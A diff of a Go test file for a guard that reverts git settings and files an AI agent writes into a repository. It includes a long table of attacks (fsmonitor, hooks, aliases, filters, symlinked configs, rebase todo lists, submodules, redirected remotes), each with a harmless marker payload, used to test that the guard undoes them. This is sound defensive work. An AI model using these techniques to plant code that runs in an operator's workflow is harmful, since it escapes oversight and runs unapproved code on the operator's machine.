@@ -2,7 +2,6 @@ package git
 
 import (
 	"context"
-	"errors"
 	"fmt"
 	"os"
 	"os/exec"
@@ -58,8 +57,7 @@ func (g *guarded) trust() {
 
 func (g *guarded) undo(want ...string) {
 	g.t.Helper()
-	undone, err := g.Undo(g.t.Context())
-	test.OK(g.t, err)
+	undone := test.Must(g.Undo(g.t.Context()))
 	for _, name := range want {
 		if !slices.ContainsFunc(undone.Names, func(done string) bool { return done == name || strings.HasSuffix(done, ": "+name) }) {
 			g.t.Errorf("%s is not undone", name)
@@ -142,40 +140,29 @@ const (
 const elsewhere = `git init -q "$SPARE/r"; git -C "$SPARE/r" commit -q --allow-empty -m x; git -C "$SPARE/r" config core.fsmonitor 'touch "$MARK"; false'; `
 
 // attacks list what the operator has set up, what an agent does, what a hook of the workflow does later, and what is undone in
-// between. Each attack succeeds if nothing is undone.
+// between. Each attack succeeds if nothing is undone. TestAllows lists the settings that an agent may not make; here are those that
+// show how one comes into effect.
 var attacks = []struct {
 	name, operator, agent, hook string
 	linked, reaches             bool
 	user                        bool // root would notice nothing
 	undone                      []string
 }{
-	{name: "core.hooksPath", agent: `mkdir evil; HOOK=evil/pre-commit; ` + hookEvil + `git config core.hooksPath evil`, hook: "git commit --allow-empty -m x", undone: []string{"core.hookspath"}},
-	{name: "core.hooksPath, old spelling", agent: `mkdir evil; HOOK=evil/pre-commit; ` + hookEvil + `printf '[CORE]HOOKSPATH=evil' >> .git/config`, hook: "git commit --allow-empty -m x", undone: []string{"core.hookspath"}},
 	{name: "core.fsmonitor", agent: `git config core.fsmonitor 'touch "$MARK"; false'`, hook: "git status", undone: []string{"core.fsmonitor"}},
-	{name: "core.sshCommand", agent: `git config core.sshCommand 'touch "$MARK"; false'`, hook: "git fetch ssh://nowhere.invalid/x", undone: []string{"core.sshcommand"}},
-	{name: "core.editor", agent: `git config core.editor 'touch "$MARK"; false'`, hook: "git commit --allow-empty", undone: []string{"core.editor"}},
-	{name: "core.pager", agent: `git config core.pager 'touch "$MARK"; cat'`, hook: "script -qc 'git --paginate log' /dev/null </dev/null", undone: []string{"core.pager"}},
-	{name: "credential helper", agent: `git config credential.helper '!touch "$MARK";'`, hook: "printf 'protocol=https\\nhost=x.invalid\\n' | GIT_TERMINAL_PROMPT=0 git credential fill", undone: []string{"credential.helper"}},
-	{name: "credential helper of a host", agent: `git config credential.https://x.invalid.helper '!touch "$MARK";'`, hook: "printf 'protocol=https\\nhost=x.invalid\\n' | GIT_TERMINAL_PROMPT=0 git credential fill", undone: []string{"credential.*.helper"}},
-	{name: "filter", agent: `git config filter.evil.clean 'touch "$MARK"; cat'; echo '* filter=evil' > .gitattributes; echo x > new`, hook: "git add new", undone: []string{"filter.evil.clean"}},
-	{name: "process filter", agent: `git config filter.evil.process 'touch "$MARK"; false'; echo '* filter=evil' > .gitattributes; echo x > new`, hook: "git add new", undone: []string{"filter.evil.process"}},
-	{name: "alias", agent: `git config alias.publish '!touch "$MARK"'`, hook: "git publish", undone: []string{"alias.publish"}},
-	{name: "external diff", agent: `git config diff.external 'touch "$MARK"; true'; echo more >> file`, hook: "git diff", undone: []string{"diff.external"}},
-	{name: "diff command", agent: `git config diff.evil.command 'touch "$MARK"; true'; echo '* diff=evil' > .gitattributes; echo more >> file`, hook: "git diff", undone: []string{"diff.evil.command"}},
-	{name: "textconv", agent: `git config diff.evil.textconv 'touch "$MARK"; cat'; echo '* diff=evil' > .gitattributes; echo more >> file`, hook: "git diff", undone: []string{"diff.evil.textconv"}},
-	{name: "merge driver", agent: `git config merge.evil.driver 'touch "$MARK"; true'; echo 'file merge=evil' > .gitattributes; git checkout -qb b; echo b > file; git commit -qam b; git checkout -q main; echo c > file; git commit -qam c`, hook: "git merge b", undone: []string{"merge.evil.driver"}},
-	{name: "include", agent: `printf '[alias]\n\tpublish = "!touch \\"$MARK\\""\n' > inc; git config include.path ../inc`, hook: "git publish", undone: []string{"include.path"}},
-	{name: "conditional include", agent: `printf '[alias]\n\tpublish = "!touch \\"$MARK\\""\n' > inc; git config includeIf.gitdir:/.path ../inc`, hook: "git publish", undone: []string{"includeif.gitdir:/.path"}},
-	{name: "gpg program", agent: `HOOK=gpg; ` + hookEvil + `git config gpg.program "$PWD/gpg"`, hook: "git commit -S --allow-empty -m x", undone: []string{"gpg.program"}},
-	{name: "signing by itself", agent: `HOOK=gpg; ` + hookEvil + `git config gpg.program "$PWD/gpg"; git config commit.gpgSign true`, hook: "git commit --allow-empty -m x", undone: []string{"gpg.program", "commit.gpgsign"}},
-	{name: "url instead of", agent: `git init -q --bare "$SPARE/e"; HOOK=$SPARE/e/hooks/pre-receive; ` + hookEvil + `git config url."$SPARE/e".insteadOf https://x.invalid/r`, hook: "git push https://x.invalid/r HEAD:refs/heads/y", undone: []string{"url.*.insteadof"}},
+	{name: "hook", agent: `HOOK=.git/hooks/post-commit; mkdir -p .git/hooks; ` + hookEvil, hook: "git commit --allow-empty -m x", undone: []string{"hooks/post-commit"}},
 	{name: "a path for a remote", agent: `git init -q --bare "$SPARE/e"; HOOK=$SPARE/e/hooks/pre-receive; ` + hookEvil + `git remote add origin "$SPARE/e"`, hook: "git push origin HEAD:refs/heads/y", undone: []string{"remote.origin.url"}},
-	{name: "ext:: for a remote", agent: `git config protocol.ext.allow always; git remote add origin 'ext::sh -c touch% $MARK'`, hook: "git fetch origin", undone: []string{"remote.origin.url", "protocol.ext.allow"}},
+	{name: "commondir", agent: `cp -r .git "$SPARE/other"; git --git-dir="$SPARE/other" config core.fsmonitor 'touch "$MARK"; false'; echo "$SPARE/other" > .git/commondir`, hook: "git status", undone: []string{"commondir"}},
+	{name: "configuration by a link", agent: `cp .git/config "$SPARE/c"; git config --file "$SPARE/c" core.fsmonitor 'touch "$MARK"; false'; rm .git/config; ln -s "$SPARE/c" .git/config`, hook: "git status", undone: []string{"config"}},
+	{name: "a rebase under way", agent: `GIT_SEQUENCE_EDITOR='f() { printf "break\n x\ttouch \"%s\"\nexec touch \"%s\"\n" "$MARK" "$MARK" > "$1"; }; f' git rebase -i HEAD`, hook: "git rebase --continue", undone: []string{"rebase-merge/git-rebase-todo"}},
+	{name: "a link for a reflog", agent: `ln -sf "$MARK" .git/logs/HEAD`, hook: "git commit --allow-empty -m x", undone: []string{"logs/HEAD"}},
+	{name: "worktree: the main repository", linked: true, reaches: true, agent: `git config alias.publish '!touch "$MARK"'; HOOK=$(git rev-parse --git-common-dir)/hooks/post-commit; mkdir -p "${HOOK%/*}"; ` + hookEvil, hook: "git publish; git commit --allow-empty -m x", undone: []string{"alias.publish", "hooks/post-commit"}},
+	{name: "core.hooksPath, old spelling", agent: `mkdir evil; HOOK=evil/pre-commit; ` + hookEvil + `printf '[CORE]HOOKSPATH=evil' >> .git/config`, hook: "git commit --allow-empty -m x", undone: []string{"core.hookspath"}},
+	{name: "filter", agent: `git config filter.evil.clean 'touch "$MARK"; cat'; echo '* filter=evil' > .gitattributes; echo x > new`, hook: "git add new", undone: []string{"filter.evil.clean"}},
+	{name: "include", agent: `printf '[alias]\n\tpublish = "!touch \\"$MARK\\""\n' > inc; git config include.path ../inc`, hook: "git publish", undone: []string{"include.path"}},
+	{name: "url instead of", agent: `git init -q --bare "$SPARE/e"; HOOK=$SPARE/e/hooks/pre-receive; ` + hookEvil + `git config url."$SPARE/e".insteadOf https://x.invalid/r`, hook: "git push https://x.invalid/r HEAD:refs/heads/y", undone: []string{"url.*.insteadof"}},
 	{name: "a branch's remote is a path", agent: `git init -q --bare "$SPARE/e"; HOOK=$SPARE/e/hooks/pre-receive; ` + hookEvil + `git config branch.main.remote "$SPARE/e"; git config branch.main.merge refs/heads/main`, hook: "git push", undone: []string{"branch.main.remote"}},
 	{name: "a branch's remote is a file that leads away", agent: `git init -q --bare "$SPARE/e"; HOOK=$SPARE/e/hooks/pre-receive; ` + hookEvil + `echo "gitdir: $SPARE/e" > away; git config branch.main.remote away; git config branch.main.merge refs/heads/main`, hook: "git push", undone: []string{"branch.main.remote"}},
 	{name: "a remote by an old file", agent: `git init -q --bare "$SPARE/e"; HOOK=$SPARE/e/hooks/pre-receive; ` + hookEvil + `mkdir -p .git/remotes; echo "URL: $SPARE/e" > .git/remotes/up`, hook: "git push up HEAD:refs/heads/y", undone: []string{"remotes/up"}},
-	{name: "upload pack", agent: `git remote add up https://x.invalid/r; git config remote.up.url ssh://x.invalid/r; git config remote.up.vcs "evil"; mkdir bin`, hook: `HOOK=bin/git-remote-evil; ` + hookEvil + `PATH="$PWD/bin:$PATH" git fetch up`, undone: []string{"remote.up.vcs"}},
-	{name: "hook", agent: `HOOK=.git/hooks/post-commit; mkdir -p .git/hooks; ` + hookEvil, hook: "git commit --allow-empty -m x", undone: []string{"hooks/post-commit"}},
 	{name: "hook by a link", agent: `HOOK=$SPARE/h; ` + hookEvil + `mkdir -p .git/hooks; ln -s "$SPARE/h" .git/hooks/post-commit`, hook: "git commit --allow-empty -m x", undone: []string{"hooks/post-commit"}},
 	{name: "hooks by a link", agent: `mkdir "$SPARE/h"; HOOK=$SPARE/h/post-commit; ` + hookEvil + `rm -rf .git/hooks; ln -s "$SPARE/h" .git/hooks`, hook: "git commit --allow-empty -m x", undone: []string{"hooks"}},
 	{name: "work tree configuration", agent: `git config extensions.worktreeConfig true; git config --worktree core.fsmonitor 'touch "$MARK"; false'`, hook: "git status", undone: []string{"core.fsmonitor"}},
@@ -183,19 +170,14 @@ var attacks = []struct {
 	{name: "the repository behind a link", agent: `mv .git "$SPARE/moved"; ln -s "$SPARE/moved" .git; git config core.fsmonitor 'touch "$MARK"; false'`, hook: "git status", undone: []string{".git"}},
 	{name: "the repository within the work tree", agent: `mv .git moved; ln -s moved .git; git config core.fsmonitor 'touch "$MARK"; false'`, hook: "git status", undone: []string{"moved: core.fsmonitor"}},
 	{name: "a zero byte in .git", agent: `mv .git "$SPARE/moved"; printf 'gitdir: %s\0/x' "$SPARE/moved" > .git; git config core.fsmonitor 'touch "$MARK"; false'`, hook: "git status", undone: []string{".git"}},
-	{name: "commondir", agent: `cp -r .git "$SPARE/other"; git --git-dir="$SPARE/other" config core.fsmonitor 'touch "$MARK"; false'; echo "$SPARE/other" > .git/commondir`, hook: "git status", undone: []string{"commondir"}},
-	{name: "configuration by a link", agent: `cp .git/config "$SPARE/c"; git config --file "$SPARE/c" core.fsmonitor 'touch "$MARK"; false'; rm .git/config; ln -s "$SPARE/c" .git/config`, hook: "git status", undone: []string{"config"}},
 	{name: "submodule without a .gitmodules", agent: `git init -q sub; git -C sub commit -q --allow-empty -m x; git add sub 2>&1; git -C sub config core.fsmonitor 'touch "$MARK"; false'`, hook: "git status", undone: []string{"sub/.git: core.fsmonitor"}},
 	{name: "submodule that was there turned away", agent: `git init -q "$SPARE/sub"; git -C "$SPARE/sub" commit -q --allow-empty -m x; git -C "$SPARE/sub" config core.fsmonitor 'touch "$MARK"; false'; mkdir sub; echo "gitdir: $SPARE/sub/.git" > sub/.git; git add sub`, hook: "git status", undone: []string{"sub/.git: leads elsewhere"}},
 	{name: "module by a link", agent: `git init -q "$SPARE/sub"; git -C "$SPARE/sub" commit -q --allow-empty -m x; git -C "$SPARE/sub" config core.fsmonitor 'touch "$MARK"; false'; mkdir sub .git/modules; ln -s "$SPARE/sub/.git" .git/modules/sub; echo "gitdir: ../.git/modules/sub" > sub/.git; git add sub`, hook: "git status", undone: []string{"modules/sub"}},
-	{name: "submodule's update", agent: `git config submodule.s.update '!touch "$MARK"'; git config submodule.s.url https://x.invalid/r; printf '[submodule "s"]\n\tpath = s\n\turl = https://x.invalid/r\n' > .gitmodules; git init -q s; git -C s commit -q --allow-empty -m x; git add s .gitmodules; git -C s commit -q --allow-empty -m y`, hook: "git submodule update", undone: []string{"submodule.s.update"}},
 	{name: "a bare repository in a directory", agent: `git init -q --bare b; git -C b config alias.publish '!touch "$MARK"'`, hook: "cd b && git publish", undone: []string{"b: alias.publish"}},
 	{name: "a bare repository without its names", agent: `git init -q --bare b; mv b/config b/c; mkdir x; mv b/objects b/refs x; mv b/c x/config; git config --file x/config alias.publish '!touch "$MARK"'; echo ../x > b/commondir`, hook: "cd b && git publish", undone: []string{"b: commondir"}},
-	{name: "a rebase under way", agent: `GIT_SEQUENCE_EDITOR='f() { printf "break\n x\ttouch \"%s\"\nexec touch \"%s\"\n" "$MARK" "$MARK" > "$1"; }; f' git rebase -i HEAD`, hook: "git rebase --continue", undone: []string{"rebase-merge/git-rebase-todo"}},
 	{name: "a rebase with a list elsewhere", agent: `GIT_SEQUENCE_EDITOR='f() { echo break > "$1"; }; f' git rebase -i HEAD; echo "exec touch \"$MARK\"" > todo; ln -sf ../../todo .git/rebase-merge/git-rebase-todo`, hook: "git rebase --continue", undone: []string{"rebase-merge/git-rebase-todo"}},
 	{name: "a rebase's strategy", agent: twoBranches + `GIT_SEQUENCE_EDITOR='f() { echo "break\npick b" > "$1"; }; f' git rebase -i HEAD; echo x/evil > .git/rebase-merge/strategy`, hook: "git rebase --continue", undone: []string{"rebase-merge/strategy"}},
 	{name: "a pick's strategy", agent: twoBranches + `git cherry-pick b~ b; git checkout -f HEAD -- file; git config --file .git/sequencer/opts options.strategy x/evil`, hook: "git cherry-pick --skip", undone: []string{"sequencer/opts"}},
-	{name: "a link for a reflog", agent: `ln -sf "$MARK" .git/logs/HEAD`, hook: "git commit --allow-empty -m x", undone: []string{"logs/HEAD"}},
 	{name: "a link for a branch's reflog", agent: `ln -sf "$MARK" .git/logs/refs/heads/main`, hook: "git commit --allow-empty -m x", undone: []string{"logs/refs/heads/main"}},
 	{name: "a link for a message", agent: `ln -sf "$MARK" .git/COMMIT_EDITMSG`, hook: "git commit --allow-empty -m x", undone: []string{"COMMIT_EDITMSG"}},
 	{name: "a link for what is fetched", agent: `ln -sf "$MARK" .git/FETCH_HEAD`, hook: "git fetch .", undone: []string{"FETCH_HEAD"}},
@@ -204,33 +186,10 @@ var attacks = []struct {
 	{name: "a link in a submodule", agent: `git init -q sub; git -C sub commit -q --allow-empty -m x; ln -sf "$MARK" sub/.git/logs/HEAD`, hook: "git -C sub commit --allow-empty -m y", undone: []string{"sub/.git: logs/HEAD"}},
 	{name: "worktree: a link for a reflog", linked: true, agent: `ln -sf "$MARK" "$(git rev-parse --git-dir)/logs/HEAD"`, hook: "git commit --allow-empty -m x", undone: []string{"logs/HEAD"}},
 	{name: "a directory that leads to its temporary one", agent: `git init -q "$SPARE/r"; git -C "$SPARE/r" config core.fsmonitor 'touch "$MARK"; false'; mkdir "$SPARE/r/deep"; ln -s "$SPARE/r/deep" sub`, hook: "cd sub && git status", undone: []string{"SPARE/r/.git: core.fsmonitor"}},
-	{name: "trailer", agent: `git config trailer.x.cmd 'touch "$MARK"; true'; git config trailer.x.key X; echo m > msg`, hook: "git interpret-trailers --trailer x=1 msg", undone: []string{"trailer.x.cmd", "trailer.x.key"}},
-	{name: "tar", agent: `git config tar.evil.command 'touch "$MARK"; cat'`, hook: "git archive --format=evil HEAD", undone: []string{"tar.evil.command"}},
 	{name: "no git can read it", agent: `printf '[alias]\n\tpublish = "!touch \\"$MARK\\""\n[alias "' > c; cat .git/config >> c; cp c .git/config`, hook: "git publish", undone: []string{"config"}},
 	{name: "a directory that can't be listed", user: true, agent: `mkdir dir; git init -q dir/sub; git -C dir/sub commit -q --allow-empty -m x; git add dir/sub; ` +
 		`git -C dir/sub config core.fsmonitor 'touch "$MARK"; false'; chmod 311 dir`, hook: "git status", undone: []string{"dir: permission denied"}},
 	{name: "a submodule behind many directories", agent: manyDirs + `git -C a/b/sub config core.fsmonitor 'touch "$MARK"; false'`, hook: "git status", undone: []string{"a/b/sub/.git: core.fsmonitor"}},
-	{name: "a fetch in a submodule behind many directories", operator: remote, agent: manyDirs + `git config fetch.recurseSubmodules true; git config submodule.s.active true
-		git -C a/b/sub remote add origin ssh://nowhere.invalid/x; git -C a/b/sub config core.sshCommand 'touch "$MARK"; false'`, hook: "git fetch origin", undone: []string{"a/b/sub/.git: core.sshcommand"}},
-	{name: "a push in a submodule behind many directories", operator: remote, agent: manyDirs + `git commit -qm sub; git config push.recurseSubmodules on-demand; git config submodule.s.active true
-		git -C a/b/sub remote add origin ssh://nowhere.invalid/x; git -C a/b/sub update-ref refs/remotes/origin/none "$(git hash-object -t tree /dev/null)" 2>&1
-		git -C a/b/sub config core.sshCommand 'touch "$MARK"; false'`, hook: "git push origin main", undone: []string{"push.recursesubmodules"}},
-	{
-		name: "push.followTags", operator: remote, agent: `git tag -am evil evil; git config push.followTags true`,
-		hook: `git push -q origin HEAD:refs/heads/x; git -C "$MARK.git" rev-parse -q --verify refs/tags/evil && touch "$MARK"`, undone: []string{"push.followtags"},
-	},
-	{
-		name: "push.default", operator: remote, agent: `git commit -q --allow-empty -m evil; git checkout -qb topic; git config push.default matching`,
-		hook: `git push -q origin; test "$(git -C "$MARK.git" rev-parse main)" = "$(git rev-parse main)" && touch "$MARK"`, undone: []string{"push.default"},
-	},
-	{
-		name: "what is pushed to a remote", operator: remote, agent: `git commit -q --amend --allow-empty -m evil; git config remote.origin.push +HEAD:refs/heads/main`,
-		hook: `git push -q origin; test "$(git -C "$MARK.git" rev-parse main)" = "$(git rev-parse HEAD)" && touch "$MARK"`, undone: []string{"remote.origin.push"},
-	},
-	{
-		name: "a mirror for a remote", operator: remote + `git push -q origin main:theirs`, agent: `git update-ref -d refs/remotes/origin/theirs; git config remote.origin.mirror true`,
-		hook: `git push -q origin; git -C "$MARK.git" rev-parse -q --verify theirs || touch "$MARK"`, undone: []string{"remote.origin.mirror"},
-	},
 	{
 		name: "another server for a remote", operator: servers, agent: `git remote set-url origin https://h.invalid/evil`,
 		hook: `git push -q origin HEAD:refs/heads/x; git -C "$MARK-evil" rev-parse -q --verify x && touch "$MARK"`, undone: []string{"remote.origin.url"},
@@ -308,16 +267,21 @@ var attacks = []struct {
 	{name: "worktree: commondir gone", linked: true, agent: `D=$(git rev-parse --git-dir); C=$(git rev-parse --git-common-dir); cp -r "$C/objects" "$C/refs" "$D/"; cp "$C/config" "$D/config"; rm "$D/commondir"; git config --file "$D/config" alias.publish '!touch "$MARK"'`, hook: "git publish", undone: []string{"commondir", "alias.publish"}},
 	{name: "worktree: .git turned away", linked: true, agent: `git clone -q . "$SPARE/c"; git -C "$SPARE/c" config alias.publish '!touch "$MARK"'; echo "gitdir: $SPARE/c/.git" > .git`, hook: "git publish", undone: []string{".git"}},
 	{name: "worktree: a repository of its own", linked: true, agent: `rm .git; git init -q; git config alias.publish '!touch "$MARK"'`, hook: "git publish", undone: []string{".git"}},
-	{name: "worktree: the main repository", linked: true, reaches: true, agent: `git config alias.publish '!touch "$MARK"'; HOOK=$(git rev-parse --git-common-dir)/hooks/post-commit; mkdir -p "${HOOK%/*}"; ` + hookEvil, hook: "git publish; git commit --allow-empty -m x", undone: []string{"alias.publish", "hooks/post-commit"}},
 }
+
+// plainAttacks is how many of them, from the first on, are among the tests before a commit.
+const plainAttacks = 8
 
 // What an agent writes into a git directory does not run in a hook of the workflow: it is put back, or no hook runs. That the
 // attack works without the guard is checked first.
 func TestGuardAttacks(t *testing.T) {
 	t.Parallel()
-	for _, a := range attacks {
+	for i, a := range attacks {
 		t.Run(a.name, func(t *testing.T) {
 			t.Parallel()
+			if i >= plainAttacks {
+				test.Expensive(t)
+			}
 			if a.user && !test.Unprivileged(t) {
 				return
 			}
@@ -460,8 +424,7 @@ func TestGuard(t *testing.T) {
 			g.reaches = c.name == "also in a worktree and its main repository"
 			g.do(c.operator)
 			g.trust()
-			_, err := g.Undo(t.Context())
-			test.OK(t, err)
+			test.OK(t, errOf(g.Undo(t.Context())))
 			g.trust()
 			g.do(c.agent)
 			g.ran()
@@ -481,9 +444,7 @@ func TestGuard(t *testing.T) {
 			g.undo()
 			g.trust()
 			g.undo()
-			if got := g.do("git config alias.later"); got != "!true\n" {
-				t.Errorf("alias.later is %q", got)
-			}
+			test.Equal(t, "alias.later", g.do("git config alias.later"), "!true\n")
 		})
 	}
 }
@@ -530,11 +491,8 @@ func TestGuardSpecialFiles(t *testing.T) {
 			g.do("echo ours > .git/hooks/pre-push; cp .git/config ../config; printf '[alias]\n\tx = !y\n' > ../outside; cp ../outside ../same")
 			g.trust()
 			g.do(`OUTSIDE=$PWD/../outside; for F in .git/config .git/hooks/pre-push; do rm $F; ` + put + `; done; chmod 0 .git/hooks; chmod 500 .git`)
-			_, err := g.Undo(t.Context())
-			test.OK(t, err)
-			if got := g.do("cmp .git/config ../config; cmp ../outside ../same; cat .git/hooks/pre-push"); got != "ours\n" {
-				t.Errorf("the hook is %q", got)
-			}
+			test.OK(t, errOf(g.Undo(t.Context())))
+			test.Equal(t, "the hook", g.do("cmp .git/config ../config; cmp ../outside ../same; cat .git/hooks/pre-push"), "ours\n")
 		})
 	}
 }
@@ -545,11 +503,7 @@ func TestGuardPending(t *testing.T) {
 	g := guard(t, false)
 	g.trust()
 	git(t, g.Tree, "config", "alias.evil", "!false")
-	ended, cancel := context.WithCancel(t.Context())
-	cancel()
-	if _, err := g.Undo(ended); !errors.Is(err, context.Canceled) {
-		t.Error(err)
-	}
+	wantIs(t, "error", errOf(g.Undo(ended(t))), context.Canceled)
 	_, _, err := g.HookEnv(nil)
 	wantCode(t, err, host.CodeUntrusted)
 
@@ -572,9 +526,8 @@ func TestGuardUnreadable(t *testing.T) {
 	g.undo("alias.evil")
 	g.snapshot = nil // the next holder
 	write(t, g.File, "{")
-	_, err := g.Undo(t.Context())
-	wantCode(t, err, files.CodeFailed)
-	_, _, err = g.HookEnv(nil)
+	wantCode(t, errOf(g.Undo(t.Context())), files.CodeFailed)
+	_, _, err := g.HookEnv(nil)
 	wantCode(t, err, files.CodeFailed)
 	g.Off = true
 	g.undo()
@@ -588,12 +541,11 @@ func TestGuardTooLarge(t *testing.T) {
 	g := guard(t, false)
 	g.trust()
 	g.limit = 1
-	undone, err := g.Undo(t.Context())
-	test.OK(t, err)
+	undone := test.Must(g.Undo(t.Context()))
 	if undone.Untrusted == "" {
 		t.Error("it is trusted")
 	}
-	_, _, err = g.HookEnv(nil)
+	_, _, err := g.HookEnv(nil)
 	wantCode(t, err, host.CodeUntrusted)
 	wantCode(t, g.Trust(t.Context(), func(string) bool { return false }, nil), host.CodeUntrusted)
 	g.limit = 0
@@ -610,8 +562,7 @@ func TestGuardDeep(t *testing.T) {
 	g.undo()
 	g.trust()
 	g.do("rm -r deep; git init -q deep; " + moveDown)
-	undone, err := g.Undo(t.Context())
-	test.OK(t, err)
+	undone := test.Must(g.Undo(t.Context()))
 	if !strings.Contains(undone.Untrusted, "/deep/.git: ") {
 		t.Errorf("%q", undone.Untrusted)
 	}
@@ -638,8 +589,7 @@ func TestGuardTooManyFiles(t *testing.T) {
 	for _, dir := range []string{".git/hooks", "sub/.git/hooks"} {
 		g.do("git init -q sub; mkdir -p " + dir + "; cd " + dir + "; i=0; while [ $i -le 1000 ]; do : > h$i; i=$((i+1)); done")
 		for range 2 {
-			undone, err := g.Undo(t.Context())
-			test.OK(t, err)
+			undone := test.Must(g.Undo(t.Context()))
 			if u := undone.Untrusted; !strings.Contains(u, dir[:len(dir)-6]+" holds more than 1000 files that git could run") {
 				t.Error(u)
 			}
@@ -651,8 +601,7 @@ func TestGuardTooManyFiles(t *testing.T) {
 
 func settings(t *testing.T, text string) []setting {
 	t.Helper()
-	list, err := parseConfig(t.Context(), []byte(text))
-	test.OK(t, err)
+	list := test.Must(parseConfig(t.Context(), []byte(text)))
 	return list
 }
 
@@ -703,9 +652,7 @@ lfs.repositoryFormatVersion=0 lfs.https://h/x.access=basic status.short=true log
 			if last > first {
 				s.sub = key[first+1 : last]
 			}
-			if got := rules.allows(s); got != want {
-				t.Errorf("%s: allowed %v", kv, got)
-			}
+			test.Equal(t, kv, rules.allows(s), want)
 		}
 	}
 	rules.tree = realTemp(t)
@@ -715,9 +662,7 @@ lfs.repositoryFormatVersion=0 lfs.https://h/x.access=basic status.short=true log
 		"../../../a": true, rules.tree + "/a": true, "../../../link": false, "../../../other": false, "../../../none": false,
 		"../../../../other": false, "/etc": false, "../../..": false,
 	} {
-		if got := rules.allows(setting{section: "core", name: "worktree", value: value}); got != want {
-			t.Errorf("core.worktree %s of a module: allowed %v", value, got)
-		}
+		test.Equal(t, "core.worktree", rules.allows(setting{section: "core", name: "worktree", value: value}), want)
 	}
 }
 
@@ -752,9 +697,7 @@ func TestSettle(t *testing.T) {
 			t.Errorf("%s: %q\n%s", c.name, changed, got)
 		}
 	}
-	ended, cancel := context.WithCancel(t.Context())
-	cancel()
-	if got, _, err := settleConfig(ended, []byte("[a]\nb\n"), nil, "config"); err == nil {
+	if got, _, err := settleConfig(ended(t), []byte("[a]\nb\n"), nil, "config"); err == nil {
 		t.Errorf("no error with the time over, but %q", got)
 	}
 	for _, secret := range settings(t, "[url \"https://user:secret@h\"]\n\tinsteadOf = x\n[credential \"https://user:secret@h\"]\n\thelper = y\n") {
